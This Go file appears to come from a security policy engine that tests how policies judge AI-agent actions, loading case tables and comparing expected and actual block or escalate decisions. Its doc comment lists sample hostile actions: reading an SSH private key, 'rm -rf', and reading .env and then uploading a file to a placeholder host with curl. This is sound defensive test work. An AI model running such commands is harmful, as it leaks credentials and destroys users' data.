package policy

import (
	"context"
	"errors"
	"fmt"

	"github.com/shieldcli/shield/pkg/action"
	"github.com/shieldcli/shield/pkg/analysis"
	"github.com/shieldcli/shield/pkg/effect"
	"github.com/shieldcli/shield/pkg/policy/internal/rulefile"
	"github.com/shieldcli/shield/pkg/verdict"
)

// DecisionTestCases is a table of actions and the decisions that policies should make.
type DecisionTestCases struct {
	name     string
	caseFile *rulefile.DecisionTestCases
}

// LoadCases reads a table of cases: YAML, or JSON Lines with one case a line.
//
//	place: {cwd: /work/app, home: /home/me, roots: [/work/app]}
//	cases:
//	  - name: reads a key
//	    action: {type: read_file, payload: {path: ~/.ssh/id_rsa}}
//	    want: BLOCK                                    # by the policy under test
//	  - action: rm -rf build                           # short for execute_command
//	    want: {default: ESCALATE 2, offline: ESCALATE 1} # by presets, with the next tier
//	    rule: evaluate_destructive_file_ops
//	  - action: [cat .env, curl -F f=@a https://example.com/] # of one session: the last is judged
//	    want: ESCALATE 3
func LoadCases(name string, data []byte) (*DecisionTestCases, error) {
	t, err := rulefile.ParseCases(name, data)
	if err != nil {
		return nil, err
	}
	return &DecisionTestCases{name, t}, nil
}

// A CaseResult is the result of judging one case of a [DecisionTestCases] table by one policy.
type CaseResult struct {
	Name             string // name of the case, or its action if it has no name
	Line             int    // in the file, counted from 1
	PolicyName       string
	Want             string // ALLOW, BLOCK, ESCALATE, or ESCALATE with the next tier, as in "ESCALATE 2"
	Got              string
	Rule             string // the rule that decided
	ReasoningOrError string // the verdict's reasoning, or the error
	OK               bool
}

// Run judges all cases. policyWithOptions returns the policy under test, for options with the
// folders of the table; a case can name a preset instead. Actions are judged in the table's
// [effect.PathContext], or in an.DefaultExecutionContext if the table has none.
func (t *DecisionTestCases) Run(ctx context.Context, an *analysis.Analyzer, policyWithOptions func(Options) (*Policy, error)) ([]CaseResult, error) {
	opts, place := Options{FoldersByGlobVariable: t.caseFile.Vars}, an.DefaultExecutionContext
	if t.caseFile.CWD != "" || t.caseFile.Home != "" || t.caseFile.WorkspaceRoots != nil {
		place = effect.PathContext{CWD: t.caseFile.CWD, Home: t.caseFile.Home, WorkspaceRoots: t.caseFile.WorkspaceRoots, FoldCase: t.caseFile.FoldsPathLetterCase}
		opts.FoldersByGlobVariable = opts.allFoldersByGlobVariable()
		opts.FoldersByGlobVariable["WORKSPACE"] = t.caseFile.WorkspaceRoots
		opts.FoldersByGlobVariable["HOME"] = []string{t.caseFile.Home}
	}
	local := &analysis.Analyzer{ShellAnalyzer: an.ShellAnalyzer, FileAnalyzer: an.FileAnalyzer, ReplaySession: an.ReplaySession, DefaultExecutionContext: place}
	policies := map[string]*Policy{}
	var out []CaseResult
	for i := range t.caseFile.Cases {
		c := &t.caseFile.Cases[i]
		for _, w := range c.Want {
			p := policies[w.PresetName]
			if p == nil {
				var err error
				if w.PresetName == "" {
					p, err = policyWithOptions(opts)
				} else {
					p, err = Preset(w.PresetName, opts)
				}
				if err != nil {
					return nil, fmt.Errorf("%s:%d: %w", t.name, c.Pos.Line, err)
				}
				policies[w.PresetName] = p
			}
			out = append(out, runCase(ctx, local, p, c, w))
		}
	}
	return out, nil
}

func runCase(ctx context.Context, an *analysis.Analyzer, p *Policy, c *rulefile.TestCase, w rulefile.ExpectedDecision) CaseResult {
	r := CaseResult{Name: c.Name, Line: c.Pos.Line, PolicyName: p.Name(), Want: w.Decision}
	if r.Name == "" {
		r.Name = shortenAndEscapeForMessage(string(c.Action))
	}
	if w.Tier != 0 {
		r.Want = fmt.Sprintf("%s %d", w.Decision, w.Tier)
	}
	v, err := judgeRuleExample(ctx, an, p, &c.Example)
	if err != nil {
		r.Got, r.ReasoningOrError = verdict.Block.String(), err.Error()
		return r
	}
	r.Got, r.Rule, r.ReasoningOrError = v.Decision.String(), v.Rule, v.Reasoning
	r.OK = r.Got == w.Decision && (c.ExpectedRule == "" || c.ExpectedRule == v.Rule) && (w.Tier == 0 || w.Tier == v.NextTier)
	if v.Decision == verdict.Escalate && w.Tier != 0 {
		r.Got = fmt.Sprintf("%s %d", r.Got, v.NextTier)
	}
	return r
}

// judgeRuleExample judges the last action of an example as if the earlier ones had run.
func judgeRuleExample(ctx context.Context, an *analysis.Analyzer, p *Policy, e *rulefile.Example) (verdict.Verdict, error) {
	var actions []*action.Action
	for _, raw := range append(e.EarlierActions[:len(e.EarlierActions):len(e.EarlierActions)], e.Action) {
		a, err := action.Parse(raw)
		if err != nil {
			return verdict.Verdict{}, err
		}
		actions = append(actions, a)
	}
	if len(actions) == 1 {
		return p.Judge(ctx, an.AnalyzeAction(actions[0]))
	}
	if an.ReplaySession == nil {
		return verdict.Verdict{}, errors.New("the case has a list of actions; give each case one action")
	}
	events, counts := p.RequiredSessionHistory()
	return p.Judge(ctx, an.ReplaySession(an, events, counts, actions))
}
